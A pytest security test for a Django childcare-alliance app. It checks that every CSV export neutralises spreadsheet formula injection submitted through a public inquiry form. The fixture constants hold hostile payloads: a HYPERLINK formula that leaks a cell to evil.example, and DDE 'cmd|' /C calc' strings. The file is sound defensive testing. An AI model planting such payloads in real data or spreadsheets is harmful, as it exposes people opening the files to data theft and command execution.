"""No CSV the product emits carries a spreadsheet formula, whatever a family typed into the public form.

The CSV downloads are found in the URL conf, not listed by hand: a route whose
path ends in `.csv`, or whose view (or a helper of its module the view calls)
answers `text/csv`. Each one found must be exercised below (EXERCISE), so a new
CSV route fails this test until it is. The data comes in as an attacker would
bring it: a family sends the public inquiry form with formula names, its child
is enrolled, invoiced, pays and is written off, the alliance is rolled up; a
program is named like a formula too. Every cell of every file is then read as a
spreadsheet reads it: none may start with a formula character unless it is
exactly a number.
"""

from __future__ import annotations

import datetime
import inspect
import io
import sys
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from types import ModuleType, SimpleNamespace
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from alliance.csvsafe import FORMULA_STARTS, PLAIN_NUMBER
from alliance.dates import alliance_today
from alliance.tenancy import alliance_scope
from billing.invoicing import invoice_program_for_period
from billing.models import CollectionNote, FamilyAccount
from billing.payments import payment_record, write_off_record
from enrollment.models import Child, Family
from metrics.rollups import rollup_alliance
from tests.billing.factories import RatePlanFactory, enroll, room_of
from tests.csvrows import csv_rows

PROJECT_APPS = ("alliance", "members", "enrollment", "sharedservices", "billing", "outreach", "metrics")
FAMILY = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
CHILD = "@SUM(1+1)*cmd|' /C calc'!A0"
PROGRAM = "+Sunny Days"
PAYMENT_REFERENCE = "-2+3+cmd|' /C calc'!A0"
MARCH = (datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))


# ---- finding the CSV routes ------------------------------------------------------------------


def _patterns(patterns: list[Any], prefix: str = "", namespace: str = "") -> Iterator[tuple[str, str, Any]]:
    for p in patterns:
        route = prefix + str(p.pattern)
        if isinstance(p, URLResolver):
            ns = f"{namespace}:{p.namespace}" if namespace and p.namespace else (p.namespace or namespace)
            yield from _patterns(p.url_patterns, route, ns)
        elif isinstance(p, URLPattern):
            name = f"{namespace}:{p.name}" if namespace and p.name else (p.name or route)
            yield name, route, p.callback


def _own(obj: Any) -> bool:
    return (getattr(obj, "__module__", "") or "").split(".")[0] in PROJECT_APPS


def _source(obj: Any) -> str:
    try:
        return inspect.getsource(obj)
    except (OSError, TypeError):
        return ""


def _csv_helpers(module: ModuleType | None) -> set[str]:
    """Functions of a view's module that answer text/csv (metrics.views.csv_response)."""
    if module is None:
        return set()
    return {
        name
        for name, value in vars(module).items()
        if inspect.isfunction(value) and _own(value) and "text/csv" in _source(value)
    }


def answers_csv(route: str, callback: Any) -> bool:
    if ".csv" in route:
        return True
    view = getattr(callback, "view_class", None) or getattr(callback, "cls", None) or callback
    classes = [k for k in getattr(view, "__mro__", [view]) if _own(k)]
    source = "\n".join(_source(k) for k in classes)
    helpers = set().union(*(_csv_helpers(sys.modules.get(k.__module__)) for k in classes)) if classes else set()
    return "text/csv" in source or any(f"{helper}(" in source for helper in helpers)


def csv_routes() -> dict[str, str]:
    return {
        name: route for name, route, callback in _patterns(get_resolver().url_patterns) if answers_csv(route, callback)
    }


# ---- the attacker's data ---------------------------------------------------------------------


@pytest.fixture
def hostile(world, clients, today):
    """A family that came in through the public inquiry form with formula names, enrolled and billed."""
    response = Client(REMOTE_ADDR="203.0.113.66").post(
        f"/care/{world.a.slug}/inquire/",
        {
            "guardian_first_name": "Eve",
            "guardian_last_name": FAMILY,
            "guardian_email": "eve@evil.example",
            "child1_first_name": CHILD,
            "child1_date_of_birth": (today - datetime.timedelta(days=3 * 365)).isoformat(),
            "desired_start": (today + datetime.timedelta(days=7)).isoformat(),
            "weekdays": ["0", "1", "2", "3", "4"],
            "day_length": "full",
            "any_program": "on",
            "subsidy_status": "no",
            "consent_contact": "on",
            "website": "",
        },
    )
    assert response.status_code == 302, response.context["form"].errors
    with alliance_scope(world.a.pk):
        family = Family.objects.get(name__startswith="=HYPERLINK")
        child = Child.objects.get(family=family)
        world.x.name = PROGRAM
        world.x.save()
        room = room_of(world.x)
    RatePlanFactory(program=world.x, tuition=Decimal("812.50"))
    enroll(child, room, start=MARCH[0])
    with alliance_scope(world.a.pk):
        invoice_program_for_period(program_id=world.x.pk, period_start=MARCH[0], period_end=MARCH[1])
        account = FamilyAccount.objects.get(family=family, program=world.x)
        payment_record(
            actor=None,
            account=account,
            amount=Decimal("12.50"),
            method="cash",
            received_on=datetime.date(2026, 3, 10),
            reference=PAYMENT_REFERENCE,
            note=PAYMENT_REFERENCE,
        )
        write_off_record(actor=world.users.staff_a, account=account, reason=FAMILY, effective_on=MARCH[1])
        rollup_alliance(start=datetime.date(2025, 12, 1), end=today)
    return SimpleNamespace(world=world, room=room, child=child, family=family)


# ---- each CSV route, exercised ---------------------------------------------------------------

Fetch = Callable[[SimpleNamespace, Any], list[Any]]


def _billing_export(h: SimpleNamespace, clients: Any) -> list[Any]:
    data = {"program": h.world.x.pk, "start": MARCH[0].isoformat(), "end": MARCH[1].isoformat()}
    url = f"/a/{h.world.a.slug}/billing/export/"
    return [clients.staff_a.post(url, {**data, "format": kind}) for kind in ("ledger", "journal")]


def _roster(h: SimpleNamespace, clients: Any) -> list[Any]:
    url = f"/a/{h.world.a.slug}/attendance/classrooms/{h.room.pk}/roster.csv?day=2026-03-10"
    return [clients.provider_x.get(url), clients.staff_a.get(url)]


def _import_templates(h: SimpleNamespace, clients: Any) -> list[Any]:
    from members.imports import SPECS

    return [
        clients.provider_x.get(f"/a/{h.world.a.slug}/programs/{h.world.x.pk}/import/{kind}/template.csv")
        for kind in SPECS
        if kind != "profit_loss"  # a profit and loss report is the accounting system's, with no template
    ]


CHART_SLUGS = ["occupancy", "collection", "cost-revenue", "hub", "members"]
BENCHMARK_SLUGS = ["occupancy", "attendance", "collection", "bad-debt", "gap"]


def _dashboard(h: SimpleNamespace, clients: Any) -> list[Any]:
    return [clients.staff_a.get(f"/a/{h.world.a.slug}/dashboard/{slug}.csv") for slug in CHART_SLUGS]


def _program(h: SimpleNamespace, clients: Any) -> list[Any]:
    base = f"/a/{h.world.a.slug}/dashboard/programs/{h.world.x.pk}"
    return [clients.staff_a.get(f"{base}/{slug}.csv") for slug in BENCHMARK_SLUGS]


def _sustainability(h: SimpleNamespace, clients: Any) -> list[Any]:
    """The Hub's plan lists members by name (the hostile program's among them)."""
    from sustainability.services import plan_save

    with alliance_scope(h.world.a.pk):
        plan_save(
            actor=h.world.users.staff_a,
            data={
                "start_year": 2027,
                "years": 3,
                "staff_cost": Decimal("1000.00"),
                "overhead_cost": Decimal("0.00"),
                "slot_fee": Decimal("5.00"),
            },
        )
    base = f"/a/{h.world.a.slug}/sustainability"
    return [clients.staff_a.get(f"{base}/plan.csv"), clients.staff_a.get(f"{base}/fee-structures.csv")]


def _sustainability_funder(h: SimpleNamespace, clients: Any) -> list[Any]:
    """The funder's file of the same plan: yearly totals and the disclosure note, read as the funder."""
    _sustainability(h, clients)
    return [clients.funder_a.get(f"/a/{h.world.a.slug}/sustainability/funders.csv")]


def _my_program(h: SimpleNamespace, clients: Any) -> list[Any]:
    return [clients.provider_x.get(f"/a/{h.world.a.slug}/my-program/figures/{slug}.csv") for slug in BENCHMARK_SLUGS]


def _owes_a_late_fee(h: SimpleNamespace) -> None:
    """The hostile family still owes a late fee (posted 40 days ago, so past due) after its write-off."""
    from billing.ledger import ledger_entry_post

    with alliance_scope(h.world.a.pk):
        account = FamilyAccount.objects.get(family=h.family, program=h.world.x)
        ledger_entry_post(
            account=account,
            kind="charge",
            amount=Decimal("25.00"),
            posted_on=alliance_today(h.world.a) - datetime.timedelta(days=40),
            description=FAMILY,
        )
        CollectionNote.objects.create(account=account, kind="call", note=PAYMENT_REFERENCE)


def _collections(h: SimpleNamespace, clients: Any) -> list[Any]:
    _owes_a_late_fee(h)
    return [clients.staff_a.get(f"/a/{h.world.a.slug}/billing/collections.csv")]


def _aging(h: SimpleNamespace, clients: Any) -> list[Any]:
    _owes_a_late_fee(h)
    url = f"/a/{h.world.a.slug}/billing/aging.csv"
    return [clients.staff_a.get(url), clients.provider_x.get(url)]


def _invoices(h: SimpleNamespace, clients: Any) -> list[Any]:
    url = f"/a/{h.world.a.slug}/billing/invoices.csv"
    return [clients.staff_a.get(url), clients.provider_x.get(url + "?q=HYPERLINK")]


def _scenario(h: SimpleNamespace, clients: Any) -> list[Any]:
    from planning.services import scenario_create

    with alliance_scope(h.world.a.pk):
        scenario = scenario_create(program=h.world.x, actor=None, data={"name": "=HYPERLINK(1)", "wages": Decimal(3)})
    url = f"/a/{h.world.a.slug}/scenarios/{scenario.pk}/projection.csv"
    return [clients.provider_x.get(url), clients.staff_a.get(url)]


EXERCISE: dict[str, Fetch] = {
    "billing:aging_csv": _aging,
    "billing:collections_csv": _collections,
    "billing:invoice_list_csv": _invoices,
    "billing:export": _billing_export,
    "enrollment:attendance_template": _roster,
    "members:import_template": _import_templates,
    "metrics:dashboard_csv": _dashboard,
    "metrics:program_csv": _program,
    "metrics:my_program_csv": _my_program,
    "sustainability:plan_csv": _sustainability,
    "sustainability:compare_csv": _sustainability,
    "sustainability:funder_csv": _sustainability_funder,
    "planning:scenario_csv": _scenario,
}


def unsafe_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv_rows(text)
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
    ]


# ---- the tests -------------------------------------------------------------------------------


def test_every_csv_route_is_exercised():
    found = csv_routes()
    assert len(found) >= len(EXERCISE)  # the walk finds the routes below, and would find a new one
    missing = sorted(set(found) - set(EXERCISE))
    assert not missing, f"CSV routes not exercised by tests/security/test_csv_injection.py: {missing}"
    assert sorted(set(EXERCISE) - set(found)) == [], "EXERCISE names a route the walk no longer finds"


@pytest.mark.parametrize("route_name", sorted(EXERCISE))
def test_no_cell_starts_a_formula(route_name, hostile, clients):
    responses = EXERCISE[route_name](hostile, clients)
    assert responses
    for response in responses:
        assert response.status_code == 200, response
        assert response["Content-Type"].startswith("text/csv"), response
        text = response.content.decode()
        assert len(csv_rows(text)) >= 2  # a header and at least one row
        assert unsafe_cells(text) == [], f"{route_name}: {response.request['PATH_INFO']}"


def test_the_names_reach_the_files_and_stay_text(hostile, clients):
    """The files above do carry the hostile names: neutralised with a leading ', amounts still bare numbers."""
    ledger, journal = _billing_export(hostile, clients)
    ledger_rows = csv_rows(ledger)
    holder = ledger_rows[0].index("account_holder")
    assert {row[holder] for row in ledger_rows[1:]} == {f"'{FAMILY} family"}
    assert ",-12.50," in ledger.content.decode()  # the payment: a bare negative number, no leading '
    assert f"'{FAMILY} family" in {cell for row in csv_rows(journal) for cell in row}
    roster = csv_rows(_roster(hostile, clients)[0])
    assert roster[1][1] == f"'{CHILD} {FAMILY}"
    members = csv_rows(_dashboard(hostile, clients)[-1])
    assert f"'{PROGRAM}" in [row[0] for row in members]
    assert csv_rows(_my_program(hostile, clients)[0])[0][1] == f"'{PROGRAM}"


def test_the_data_export_zip_is_as_safe(hostile, settings, tmp_path):
    """The alliance's own data export (a zip of one CSV per table) writes through the same writer."""
    from alliance.dataexport import data_export_request, data_export_run

    settings.HUB_EXPORT_DIR = str(tmp_path)
    with alliance_scope(hostile.world.a.pk):
        export = data_export_run(export_id=data_export_request(actor=hostile.world.users.admin_a).pk)
    with zipfile.ZipFile(io.BytesIO((tmp_path / export.file_name).read_bytes())) as archive:
        files = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")}
    assert f"'{FAMILY} family" in {cell for row in csv_rows(files["csv/enrollment.family.csv"]) for cell in row}
    assert {name: unsafe_cells(text) for name, text in files.items() if unsafe_cells(text)} == {}
